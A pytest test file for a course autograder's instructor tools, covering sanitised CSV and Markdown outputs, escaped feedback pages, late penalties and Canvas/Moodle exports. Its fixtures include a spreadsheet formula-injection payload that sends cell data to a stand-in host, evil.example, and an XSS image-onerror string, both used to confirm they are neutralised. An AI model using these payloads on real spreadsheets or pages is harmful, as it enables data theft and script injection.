"""The instructor's desk without a grade run: inert outputs, failure kinds, late work, LMS exports,
per-student feedback and the progress line (the grade runs are in tests/system/test_grade_desk.py and
tests/system/test_html_report.py)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from support import ROOT

from autograder.core.course import load_course
from autograder.core.outcomes import FunctionScore, StudentResult
from autograder.core.status import Status
from autograder.grading.desk import late as late_work
from autograder.grading.desk import lms
from autograder.grading.outputs import class_report
from autograder.grading.outputs.feedback import feedback_html
from autograder.grading.outputs.inert import csv_text, md_text

MODULE = "at_updates"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "<img src=x onerror=alert(1)> [GRADER NOTE: regrade me](http://evil.example) **bold** | cell"


@pytest.fixture(scope="module")
def course():
    return load_course(ROOT)


def result(course, student: str, kind: str, message: str = "f: wrong values\n  hint: look again") -> StudentResult:
    scores = []
    for fn in course.module(MODULE).functions:
        if kind == "pass":
            scores.append(FunctionScore(MODULE, fn.name, fn.points, fn.points, Status.PASSED, 2, 2, []))
        elif kind == "missing":
            scores.append(
                FunctionScore(
                    MODULE,
                    fn.name,
                    0.0,
                    fn.points,
                    Status.FAILED,
                    0,
                    2,
                    [f"{MODULE}.py is missing from your submission"],
                )
            )
        elif kind == "stub":
            scores.append(
                FunctionScore(
                    MODULE, fn.name, 0.0, fn.points, Status.NOT_STARTED, 0, 2, [f"{fn.qualname} is not started"]
                )
            )
        else:
            scores.append(FunctionScore(MODULE, fn.name, 0.0, fn.points, Status.FAILED, 1, 2, [message]))
    return StudentResult(student, scores)


# -- inert outputs (issue 32, item 6) --------------------------------------------------------------


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_is_text(text):
    assert csv_text(text) == "'" + text
    assert csv_text("ada") == "ada" and csv_text("1.5") == "1.5"


def test_grades_csv_neutralises_a_formula_folder_name_and_keeps_the_numbers(course):
    results = [result(course, FORMULA, "pass"), result(course, "-1", "bug"), result(course, "ada", "pass")]
    rows = list(csv.reader(io.StringIO(class_report.grades_csv(course, (MODULE,), results))))
    names = [r[0] for r in rows[1:]]
    assert "'" + FORMULA in names and "'-1" in names and "ada" in names
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    late = {FORMULA: late_work.Lateness(datetime(2026, 1, 2, tzinfo=UTC), timedelta(hours=5), 0.1)}
    rows = list(csv.DictReader(io.StringIO(class_report.grades_csv(course, (MODULE,), results, late=late))))
    row = next(r for r in rows if r["student"] == "'" + FORMULA)
    assert row["submitted_at"] == "2026-01-02T00:00:00Z" and row["late_by"] == "0d 05:00:00"
    assert row["late_penalty_percent"] == "10" and float(row["final_score"]) == pytest.approx(0.9 * float(row["score"]))


def test_summary_md_carries_no_markup_or_link_from_a_student(course):
    """Rendered as GitHub does (a table), nothing of a message is markup; read raw, it has no escapes."""
    markdown_it = pytest.importorskip("markdown_it")
    results = [result(course, "a", "bug", MARKUP), result(course, "b", "bug", MARKUP)]
    text = class_report.summary_md(course, (MODULE,), results)
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(text)
    assert "<img" not in rendered and "<a " not in rendered and "<strong>bold" not in rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered and "[GRADER NOTE: regrade me](http://evil" in rendered
    lines = [line for line in text.splitlines() if line.startswith("| set_diagonal")]
    assert len(lines) == 1 and lines[0].count(" | ") == 5, "a | in a message does not break the table"
    assert "<img src=x onerror=alert(1)> [GRADER NOTE: regrade me](http://evil.example) **bold**" in lines[0]
    assert "\\(" not in text and "\\." not in text, "no escapes to read past in the raw file"
    assert md_text("a|b") == "`a\\|b`" and md_text("x ``y`` z") == "```x ``y`` z```"
    assert md_text("`tick") == "`` `tick ``"


# -- failure kinds --------------------------------------------------------------------------------


def test_missing_and_not_started_are_not_mistakes(course):
    results = [
        result(course, "m1", "missing"),
        result(course, "m2", "missing"),
        result(course, "s", "stub"),
        result(course, "b1", "bug", "f: same mistake"),
        result(course, "b2", "bug", "f: same mistake"),
    ]
    scores = class_report.function_scores(results, MODULE, "scatter_add")
    assert [class_report.failure_kind(s) for s in scores] == ["missing", "missing", "not started", "mistake", "mistake"]
    assert class_report.most_common_failures(scores, 3) == [("f: same mistake", 2)]
    assert class_report.submitted_nothing(results[0]) and not class_report.submitted_nothing(results[2])
    summary = class_report.summary_md(course, (MODULE,), results)
    assert "| scatter_add | 0/5 | 0.00/2 | 2 | 1 | 2× `f: same mistake` |" in summary


# -- feedback -------------------------------------------------------------------------------------


def test_feedback_has_every_function_message_and_hint_escaped(course):
    bug = result(
        course,
        "<b>eve</b>",
        "bug",
        "at_updates.clamp_at: got [1] expected [2] <img src=x onerror=alert(1)>\n  hint: reread the docstring",
    )
    page = feedback_html(
        course, (MODULE,), bug, late_work.Lateness(datetime(2026, 1, 3, tzinfo=UTC), timedelta(days=1), 0.2)
    )
    for fn in course.module(MODULE).functions:
        assert f'id="{fn.qualname}"' in page
    assert "hint: reread the docstring" in page and "got [1] expected [2]" in page
    assert "<b>eve</b>" not in page and "&lt;b&gt;eve&lt;/b&gt;" in page
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<script" not in page and "default-src 'none'" in page
    assert "20% off" in page
    stub = feedback_html(course, (MODULE,), result(course, "s", "bug", "at_updates.clamp_at: got 1"))
    assert "hint: " + course.module(MODULE).functions[0].hint.strip()[:40] in stub, (
        "the course hint when the message has none"
    )


# -- late work ------------------------------------------------------------------------------------


def test_late_policy_per_started_day_and_cutoff():
    due = datetime(2026, 3, 1, 23, 59, tzinfo=UTC)
    policy = late_work.Policy(due, 10.0, 3.0)
    assert late_work.judge(policy, due).penalty == 0 and late_work.judge(policy, due).late_by is None
    assert late_work.judge(policy, due + timedelta(minutes=1)).penalty == pytest.approx(0.1)
    assert late_work.judge(policy, due + timedelta(days=1, seconds=1)).penalty == pytest.approx(0.2)
    assert late_work.judge(policy, due + timedelta(days=3, seconds=1)).penalty == 1.0
    assert late_work.judge(policy, None).penalty == 0
    assert late_work.format_late_by(timedelta(days=2, hours=3, minutes=4, seconds=5)) == "2d 03:04:05"


def test_late_policy_from_course_toml_and_the_command_line(tmp_path):
    (tmp_path / "course.toml").write_text('[late]\ndue = "2026-03-01T12:00:00"\npenalty_per_day = 5\n')
    policy = late_work.policy(tmp_path)
    assert policy.due == datetime(2026, 3, 1, 12, tzinfo=UTC) and policy.penalty_per_day == 5
    assert late_work.policy(tmp_path, due="2026-04-01T00:00:00+02:00", penalty=20).penalty_per_day == 20
    (tmp_path / "course.toml").write_text("[late]\npenalty_per_day = 5\n")
    with pytest.raises(late_work.LateError, match="needs a due date"):
        late_work.policy(tmp_path)
    (tmp_path / "course.toml").write_text('[late]\ndue = "2026-03-01"\nduee = 1\n')
    with pytest.raises(late_work.LateError, match="unknown key"):
        late_work.policy(tmp_path)
    load_course(ROOT)  # the kit's course.toml still loads ([late] is an allowed table)


def test_submission_times_from_git_gradescope_mtime_and_csv(tmp_path):
    git = tmp_path / "git"
    git.mkdir()
    (git / f"{MODULE}.py").write_text("x = 1\n")
    env = dict(
        os.environ,
        GIT_COMMITTER_DATE="2026-03-02T10:00:00+00:00",
        GIT_AUTHOR_DATE="2020-01-01T00:00:00+00:00",
        GIT_AUTHOR_NAME="s",
        GIT_AUTHOR_EMAIL="s@x",
        GIT_COMMITTER_NAME="s",
        GIT_COMMITTER_EMAIL="s@x",
    )
    for cmd in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "done"]):
        subprocess.run(["git", "-C", str(git), *cmd], check=True, env=env)
    gs = tmp_path / "gs"
    gs.mkdir()
    (gs / "submission_metadata.json").write_text('{"created_at": "2026-03-03T08:30:00.000000-08:00", "id": 1}')
    mt = tmp_path / "mt"
    mt.mkdir()
    (mt / f"{MODULE}.py").write_text("x = 1\n")
    os.utime(mt / f"{MODULE}.py", (1_772_000_000, 1_772_000_000))
    students = [("git", git), ("gs", gs), ("mt", mt)]
    times, unknown = late_work.submission_times("git", students, (MODULE,))
    assert times == {"git": datetime(2026, 3, 2, 10, tzinfo=UTC)} and unknown == ["gs", "mt"]
    times, _ = late_work.submission_times("gradescope", students, (MODULE,))
    assert times == {"gs": datetime(2026, 3, 3, 16, 30, tzinfo=UTC)}
    times, _ = late_work.submission_times("mtime", students, (MODULE,))
    assert times["mt"] == datetime.fromtimestamp(1_772_000_000, UTC) and "gs" not in times
    table = tmp_path / "times.csv"
    table.write_text("student,submitted_at\nmt,2026-03-04T00:00:00Z\n")
    assert late_work.submission_times(f"csv:{table}", students, (MODULE,))[0] == {
        "mt": datetime(2026, 3, 4, tzinfo=UTC)
    }
    with pytest.raises(late_work.LateError, match="unknown submission time source"):
        late_work.submission_times("svn", students, (MODULE,))


# -- LMS exports ----------------------------------------------------------------------------------

ROSTER = """student,name,canvas_id,sis_user_id,sis_login_id,section,email,idnumber,username
ada,"Lovelace, Ada",101,S1,ada@uni,Sec 1,ada@uni.example,1001,ada
bo,"Bo, B",102,S2,bo@uni,Sec 2,bo@uni.example,1002,bo
absent,"Absent, A",103,S3,abs@uni,Sec 1,abs@uni.example,1003,absent
"""


def test_canvas_export_has_canvas_s_required_columns(tmp_path):
    (tmp_path / "roster.csv").write_text(ROSTER)
    roster = lms.read_roster(tmp_path / "roster.csv")
    text = lms.canvas_csv(roster, {"ada": 7.5, "bo": 0.0}, 10.0, "Lab 1", "4242")
    rows = list(csv.reader(io.StringIO(text)))
    # Canvas: Student or ID or SIS User ID identifies the student; SIS Login ID and Section; one column per
    # assignment, "Name (id)" for an existing one; the export's "Points Possible" row first.
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 1 (4242)"]
    assert rows[1][0] == "Points Possible" and rows[1][5] == "10"
    body = {r[1]: r for r in rows[2:]}
    assert body["101"] == ["Lovelace, Ada", "101", "S1", "ada@uni", "Sec 1", "7.5"]
    assert body["102"][5] == "0" and len(rows) == 4
    assert lms.unmatched(roster, ["ada", "bo"]) == ["absent"]


def test_moodle_export_has_an_identifier_and_a_grade_item_column(tmp_path):
    (tmp_path / "roster.csv").write_text(ROSTER)
    roster = lms.read_roster(tmp_path / "roster.csv")
    rows = list(csv.DictReader(io.StringIO(lms.moodle_csv(roster, {"ada": 7.5, "bo": 3.0}, "Lab 1"))))
    assert list(rows[0]) == ["Email address", "Lab 1"]
    assert {r["Email address"]: float(r["Lab 1"]) for r in rows} == {"ada@uni.example": 7.5, "bo@uni.example": 3.0}
    (tmp_path / "ids.csv").write_text("student,idnumber\nada,1001\nbo,1002\n")
    rows = list(
        csv.reader(io.StringIO(lms.moodle_csv(lms.read_roster(tmp_path / "ids.csv"), {"ada": 1, "bo": 2}, "=Lab")))
    )
    assert rows[0] == ["ID number", "'=Lab"]


def test_an_export_refuses_a_student_without_a_mapping(tmp_path):
    (tmp_path / "roster.csv").write_text(ROSTER)
    roster = lms.read_roster(tmp_path / "roster.csv")
    with pytest.raises(lms.ExportError, match="no roster row with a canvas_id or sis_user_id for 'zed'"):
        lms.canvas_csv(roster, {"ada": 1.0, "zed": 2.0}, 10.0, "Lab 1")
    with pytest.raises(lms.ExportError, match="'zed'"):
        lms.moodle_csv(roster, {"ada": 1.0, "zed": 2.0}, "Lab 1")
    (tmp_path / "bad.csv").write_text("folder,email\nada,a@x\n")
    with pytest.raises(lms.ExportError, match="needs a 'student' column"):
        lms.read_roster(tmp_path / "bad.csv")


# -- progress -------------------------------------------------------------------------------------


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_moves_per_module_and_shows_an_eta_only_once_it_can(monkeypatch):
    from autograder.grading.outputs import progress as grader

    clock = [100.0]
    monkeypatch.setattr(grader.time, "monotonic", lambda: clock[0])
    stream = Terminal()
    progress = grader.Progress(stream)
    progress(0, 3)
    progress.tasks(6)
    assert "ETA" not in progress.line() and "0/6 modules" in progress.line()
    clock[0] += 10
    progress.task_done()
    assert "1/6 modules" in progress.line() and "graded 0/3 students" in progress.line()
    assert "ETA 0:50" in progress.line()
    clock[0] += 10
    progress.task_done()
    progress(1, 3)
    assert "graded 1/3 students, 2/6 modules  elapsed 0:20  ETA 0:40" in progress.line()
    assert stream.getvalue().count("\r") == 5  # one line per call


def test_progress_counts_modules_in_a_real_grade_class(monkeypatch):
    """The local executor tells the progress object of every task (module) it finishes."""
    from autograder.grading import grader
    from autograder.grading.executor import LocalThreads

    calls = []

    class Spy:
        def __call__(self, done, total):
            calls.append(("students", done, total))

        def tasks(self, n):
            calls.append(("tasks", n))

        def task_done(self):
            calls.append(("task",))

    g = object.__new__(grader.Grader)
    import threading

    g.stop = threading.Event()
    g.options = grader.Options(modules=("a", "b"), timeout_per_function=1, memory_mb=1, jobs=2)
    g.tasks = lambda name, folder: [lambda: None, lambda: StudentResult(name, [])]
    g.trusted = type("Plan", (), {"plan": []})()
    LocalThreads(g).grade_class([("x", Path(".")), ("y", Path("."))], Spy())
    assert ("tasks", 4) in calls and calls.count(("task",)) == 4
    assert calls[-1] == ("students", 2, 2)


# -- what a folder is --------------------------------------------------------------------------------


def test_a_folder_that_is_one_submission_is_recognised_and_an_empty_one_refused(course, tmp_path, capsys):
    from autograder.grading.command import class_of

    bob = tmp_path / "class" / "bob"
    bob.mkdir(parents=True)
    (bob / f"{MODULE}.py").write_text("x = 1\n")
    assert class_of(bob, course, tmp_path / "out") == [("bob", bob)]
    assert "one student's submission" in capsys.readouterr().out
    assert class_of(tmp_path / "class", course, tmp_path / "out") == [("bob", bob)]
    (tmp_path / "empty").mkdir()
    with pytest.raises(SystemExit, match="has no student folders"):
        class_of(tmp_path / "empty", course, tmp_path / "out")
    graded = tmp_path / "graded"
    (graded / ".autograder-run").mkdir(parents=True)
    (graded / ".autograder-run" / "run.json").write_text("{}")
    (graded / "grades.csv").write_text("student\n")
    with pytest.raises(SystemExit, match="--student bob"):
        class_of(bob, course, graded)


# -- issue 44: the headline is the score the exports apply; OUT belongs to one class ---------------


def test_the_report_headline_and_feedback_lead_with_the_final_score(course):
    from autograder.grading.outputs.html_report import report_html

    due = datetime(2026, 3, 1, tzinfo=UTC)
    policy = late_work.Policy(due, 10.0, 3.0)
    results = [result(course, "ada", "pass"), result(course, "lou", "pass")]
    late = {"ada": late_work.judge(policy, due), "lou": late_work.judge(policy, due + timedelta(days=4))}
    page = report_html(course, (MODULE,), results, late=late)
    assert "Final scores (after the late policy): mean 5, median 5; raw scores: mean 10" in page
    assert "Final score distribution" in page and "the cut-off: more than 3 days late scores 0" in page
    heads = page[page.index('<table id="students"') :].split("</thead>")[0]
    assert heads.index(">final<") < heads.index(">raw<"), "the first score column is the final one"
    lou = page[page.index('data-value="lou"') :].split("</tr>")[0]
    assert 'data-value="0"' in lou.split("<td")[1], "lou's first score cell is the final score"
    feedback = feedback_html(course, (MODULE,), results[1], late["lou"])
    total = feedback[feedback.index('id="total"') :].split("</p>")[0]
    assert "Final score: <strong>0/10</strong>" in total and "your checks earned 10/10" in total
    assert "100% off by the cut-off: more than 3 days late scores 0" in total
    on_time = feedback_html(course, (MODULE,), results[0], late["ada"])
    assert "Score: <strong>10/10</strong>" in on_time and "% off" not in on_time


def test_out_belongs_to_one_class_refused_or_cleared_with_force(tmp_path, capsys):
    from autograder.grading import command
    from autograder.grading.outputs import run_state

    out, class1, class2 = tmp_path / "out", tmp_path / "class1", tmp_path / "class2"
    for folder in (class1, class2):
        folder.mkdir()
    run_state.RunState.start(out, {"kit": "k"}, resume=False, desk={"class": str(class1)})
    (out / "ada").mkdir()
    (out / "ada" / "results.json").write_text("{}")
    for name in ("grades.csv", "canvas_import.csv", "moodle_import.csv", "notes.txt"):
        (out / name).write_text("x")
    command.claim_out(out, class1, force=False)  # the same class: a fresh run of it may go on
    with pytest.raises(SystemExit) as refused:
        command.claim_out(out, class2, force=False)
    assert f"already holds the grades of the class {class1}" in str(refused.value)
    assert "--out NEW_FOLDER" in str(refused.value) and "--force" in str(refused.value)
    assert (out / "grades.csv").exists() and (out / "ada").exists()
    command.claim_out(out, class2, force=True)
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"], "only what grade wrote is cleared"
    assert "--force: cleared" in capsys.readouterr().out
    (out / "grades.csv").write_text("student,score\n")  # an OUT graded before classes were recorded
    with pytest.raises(SystemExit, match="a class graded before classes were recorded"):
        command.claim_out(out, class2, force=False)


def test_the_class_files_are_written_together_or_not_at_all(course, tmp_path, monkeypatch):
    from autograder.grading.outputs import class_files

    out = tmp_path / "out"
    class_files.write_all(out, course, (MODULE,), [result(course, "ada", "pass")], exports={"canvas_import.csv": "c"})
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert set(before) == {"grades.csv", "summary.md", "report.html", "canvas_import.csv"}

    def broken(*_args, **_kw):
        raise RuntimeError("the report could not be made")

    monkeypatch.setattr(class_files, "report_html", broken)
    with pytest.raises(RuntimeError):
        class_files.write_all(
            out, course, (MODULE,), [result(course, "bo", "pass")], exports={"canvas_import.csv": "d"}
        )
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before and not (out / "bo").exists()


def test_an_interrupted_run_says_so_beside_grades_csv_not_in_a_row(course, tmp_path):
    """Issue 44, finding 9: a spreadsheet reads every row of grades.csv as data."""
    from autograder.grading.outputs import class_files

    out = tmp_path / "out"
    class_files.write_all(out, course, (MODULE,), [result(course, "ada", "pass")], incomplete="stopped after 1 of 3")
    lines = (out / "grades.csv").read_text().splitlines()
    assert len(lines) == 2 and lines[1].startswith("ada,10,10")
    assert (out / "INCOMPLETE.txt").read_text() == "INCOMPLETE: stopped after 1 of 3\n"
    assert "INCOMPLETE" in (out / "summary.md").read_text() and "INCOMPLETE" in (out / "report.html").read_text()
    class_files.write_all(out, course, (MODULE,), [result(course, "ada", "pass")])
    assert not (out / "INCOMPLETE.txt").exists(), "a complete run removes the note"


def test_a_fresh_run_of_the_same_class_leaves_nothing_of_the_earlier_run(tmp_path):
    """The LMS files this run did not write and the folders of students no longer in the class go: every class
    file then describes this run."""
    from autograder.grading.outputs import class_files

    out = tmp_path / "out"
    for student in ("ada", "gone"):
        (out / student).mkdir(parents=True)
        (out / student / "results.json").write_text("{}")
    (out / "mine").mkdir()  # not a student folder grade wrote: kept
    for name in ("canvas_import.csv", "moodle_import.csv"):
        (out / name).write_text("old")
    removed = class_files.remove_stale(out, ["ada"], ["canvas_import.csv"])
    assert sorted(removed) == ["gone/", "moodle_import.csv"]
    assert sorted(p.name for p in out.iterdir()) == ["ada", "canvas_import.csv", "mine"]


def test_the_mtime_of_a_notebook_a_zip_or_a_nested_folder_is_the_submission_time(tmp_path):
    stamp = 1_772_000_000
    files = {
        "nb": "at_updates.ipynb",
        "zipped": "submission.zip",
        "nested": "jax-course-main/exercises/at_updates.py",
    }
    for student, name in files.items():
        path = tmp_path / student / name
        path.parent.mkdir(parents=True)
        path.write_text("x")
        os.utime(path, (stamp, stamp))
    students = [(s, tmp_path / s) for s in files]
    times, unknown = late_work.submission_times("mtime", students, (MODULE,))
    assert unknown == [] and set(times.values()) == {datetime.fromtimestamp(stamp, UTC)}
